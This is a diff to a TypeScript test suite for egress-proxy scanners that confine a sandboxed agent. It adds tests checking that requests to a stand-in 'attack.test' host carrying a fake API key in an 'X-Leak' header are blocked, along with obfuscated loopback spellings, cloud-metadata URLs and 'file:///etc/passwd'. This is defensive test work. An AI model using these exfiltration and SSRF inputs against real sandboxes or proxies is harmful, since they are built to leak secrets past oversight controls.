@@ -7,6 +7,7 @@ import { randomBytes, randomUUID } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { BundlePlans, Scanner } from '../../src/core/bundle-plans.ts';
 import { EGRESS_URL, GIT_GATE_PORT, PIPELOCK_PORT, SCANNER_LIMITS, SUPERVISE_PORT } from '../../src/core/daemons.ts';
+import { egressListenHost } from '../../src/core/egress-address.ts';
 import { bundleName, machineName } from '../../src/core/names.ts';
 import type { BundleInput, NetworkFacts } from '../../src/core/step-io.ts';
 import { ensureBundle } from '../../src/host/bundle.ts';
@@ -35,6 +36,8 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
     let network: NetworkFacts;
     let bundle: string;
     let machine: string;
+    /** Where egress listens, which nobody in the machine is told. */
+    let egress: string;
 
     beforeAll(async () => {
       ({ site, world } = await setUp());
@@ -44,9 +47,11 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
       const plans: Partial<BundlePlans> = {
         ...fullPlans({ route: site.secret(credential), repository: site.secret('repository') }),
         pipelock: {
+          intercept: false,
           allow: [
             ...['pkg.test private', 'plain.test private', '*.below.test private', 'ported.test:8080 private'],
             ...['secretive.test', 'loopback.test', 'metadata.test', 'private-metadata.test private'],
+            ...['attack.test:9099 private', 'guess.test:9099 private'],
           ],
         },
         egress: {
@@ -64,11 +69,16 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
       const home = await site.machine('scanner', plansOf(plans));
       ({ network } = home);
       [bundle, machine] = [bundleName(home.bottle.id), machineName(home.bottle.id)];
+      egress = egressListenHost(home.bottle.runId);
       input = site.bundleInput(home.bottle, network, { uplink: world.network.name, scanner: kind, plans });
       await ensureBundle(site, input, new AbortController().signal);
       await site.driver.putFiles(home.bottle.id, [{ path: CA_FILE, mode: 0o644, content: Buffer.from(world.ca.cert) }]);
       // Names that no name server would give away for these addresses, or only a hostile one.
-      const hosts = `127.0.0.2 loopback.test\n${LINK_LOCAL} metadata.test private-metadata.test\n`;
+      const hosts = [
+        `${egress} loopback.test guess.test`,
+        `${EVERYBODYS} attack.test`,
+        `${LINK_LOCAL} metadata.test private-metadata.test\n`,
+      ].join('\n');
       await runIn(site, bundle, ['sh', '-c', 'printf "%s" "$1" >>/etc/hosts', 'sh', hosts]);
     });
     afterAll(async () => {
@@ -171,13 +181,20 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
     describe('an address', () => {
       test.each([
         ['of the world', () => [world.address, plain.address]],
-        [
-          'of this bundle',
-          () => [network.bundleIp, '127.0.0.1', '127.0.0.2', '0.0.0.0', '[::1]', '[::ffff:127.0.0.2]'],
-        ],
+        ['of this bundle', () => [network.bundleIp, '127.0.0.1', egress, '0.0.0.0', '[::1]', `[::ffff:${egress}]`]],
         [
           'of this bundle, spelled otherwise',
-          () => ['2130706434', '0x7f000002', '0177.0.0.2', '127.2', 'localhost', '①27.0.0.2'],
+          () => {
+            const number = numberOf(egress);
+            return [
+              `${number}`,
+              `0x${number.toString(16)}`,
+              egress.replace('127', '0177'),
+              '127.2',
+              'localhost',
+              '①27.0.0.2',
+            ];
+          },
         ],
         [
           'of a cloud that tells secrets',
@@ -214,6 +231,20 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
         expect(await echoed(marker)).toEqual([]);
       });
 
+      test('of a private entry does not find egress at an address that everybody knows', async () => {
+        const marker = `/${randomUUID()}`;
+        const [, anthropic] = secretsOfAgent();
+        const request = getOf(`/echo.test${marker}`, `X-Leak: ${anthropic}`);
+        for (const script of [TUNNEL, TLS_TUNNEL]) {
+          const { stdout } = await node(script, proxy(), 'attack.test:9099', request);
+          expect(stdout).toMatch(/^HTTP\/1\.1 502/);
+          expect(stdout).not.toContain('bodyLength');
+        }
+        expect(await statusOf(`http://attack.test:9099/echo.test${marker}`)).toBe('502');
+        expect(await echoed(marker)).toEqual([]);
+        expect(await echoed(anthropic)).toEqual([]);
+      });
+
       test('of the kind that clouds tell secrets at is refused too', async () => {
         expect(await statusOf('http://metadata.test/latest')).toBe('403');
         const [answer] = await raw('CONNECT metadata.test:80 HTTP/1.1\r\nHost: metadata.test\r\n\r\n');
@@ -236,7 +267,7 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
       });
 
       test('is not reached directly: its port is closed, on the bundle and in the machine', async () => {
-        for (const host of [network.bundleIp, '127.0.0.1', '127.0.0.2']) {
+        for (const host of [network.bundleIp, '127.0.0.1', egress]) {
           expect(await curl('--noproxy', '*', `http://${host}:9099/`)).toMatchObject({ exitCode: 7, stdout: '' });
         }
       });
@@ -259,7 +290,10 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
         'is not opened to tunnels by an entry of its own name either: %s',
         async (entry) => {
           const marker = `/${randomUUID()}`;
-          const plans = { ...input.plans, pipelock: { allow: [...input.plans.pipelock.allow, entry] } };
+          const plans = {
+            ...input.plans,
+            pipelock: { allow: [...input.plans.pipelock.allow, entry], intercept: false },
+          };
           const ensured = ensureBundle(site, { ...input, plans }, new AbortController().signal);
           await expect(ensured).rejects.toThrow("is the bundle's own");
           const { stdout } = await node(TUNNEL, proxy(), 'egress:9099', getOf(`/echo.test${marker}`));
@@ -334,7 +368,11 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
 
     describe('a change of the allow-list', () => {
       const ensure = (allow: string[]) =>
-        ensureBundle(site, { ...input, plans: { ...input.plans, pipelock: { allow } } }, new AbortController().signal);
+        ensureBundle(
+          site,
+          { ...input, plans: { ...input.plans, pipelock: { allow, intercept: false } } },
+          new AbortController().signal,
+        );
 
       test('counts at once, both ways, and leaves the rest as it was', async () => {
         expect(await statusOf('http://later.test/')).toBe('403');
@@ -360,6 +398,14 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
       test('a wildcard, and the name that it is below', async () => {
         expect(await statusOf('http://a.below.test/')).toBe('200');
         expect(await statusOf('http://below.test/')).toBe(isPipelock ? '200' : '403');
+      });
+
+      test('a private entry whose owner has guessed where egress listens', async () => {
+        const marker = `/${randomUUID()}`;
+        const { stdout } = await node(TUNNEL, proxy(), 'guess.test:9099', getOf(`/echo.test${marker}`));
+        // One guess in 16 million is right; pipelock asks nobody where a trusted name leads.
+        expect(/^HTTP\/1\.1 200/.test(stdout)).toBe(isPipelock);
+        expect((await echoed(marker)).length).toBe(isPipelock ? 1 : 0);
       });
 
       test('a private entry whose name leads to the metadata service of a cloud', async () => {
@@ -434,7 +480,7 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
         const before = (await plain.asked()).length;
         for (const to of [
           `http://unlisted.test${marker}`,
-          `http://127.0.0.2:9099/echo.test${marker}`,
+          `http://${egress}:9099/echo.test${marker}`,
           'http://secretive.test/',
         ]) {
           const answer = await fetched(`${EGRESS_URL}/echo.test/redirect?to=${encodeURIComponent(to)}`);
@@ -454,7 +500,7 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
       const asked = [
         ...[
           'http://unlisted.test/',
-          'http://127.0.0.2:9099/echo.test',
+          `http://${egress}:9099/echo.test`,
           'http://169.254.169.254/',
           'file:///etc/passwd',
         ],
@@ -493,6 +539,8 @@ export function testScanner(kind: Scanner, setUp: () => Promise<ScannerSubject>)
 
 /** Link-local as the metadata services of clouds are, but with nobody there. */
 const LINK_LOCAL = '169.254.77.77';
+/** Where egress listened in every bundle once. */
+const EVERYBODYS = '127.0.0.2';
 const CA_FILE = '/etc/world-ca.pem';
 
 /** Shaped like what scanners know; made here, so that no scanner takes this file for a leak. */
@@ -505,8 +553,10 @@ function secretsOfAgent(): [aws: string, anthropic: string] {
   return [`AKIA${letters}`, `sk-ant-${'api03'}-${randomBytes(24).toString('hex')}`];
 }
 
-const getOf = (path: string): string =>
-  `GET ${path} HTTP/1.1\r\nHost: egress:9099\r\nX-Leak: ${path}\r\nConnection: close\r\n\r\n`;
+const numberOf = (address: string): number => address.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);
+
+const getOf = (path: string, header = `X-Leak: ${path}`): string =>
+  `GET ${path} HTTP/1.1\r\nHost: egress:9099\r\n${header}\r\nConnection: close\r\n\r\n`;
 
 /** Sends each thing to a proxy on a connection of its own; what came back until it was whole, ended, or nothing came. */
 const RAW = `
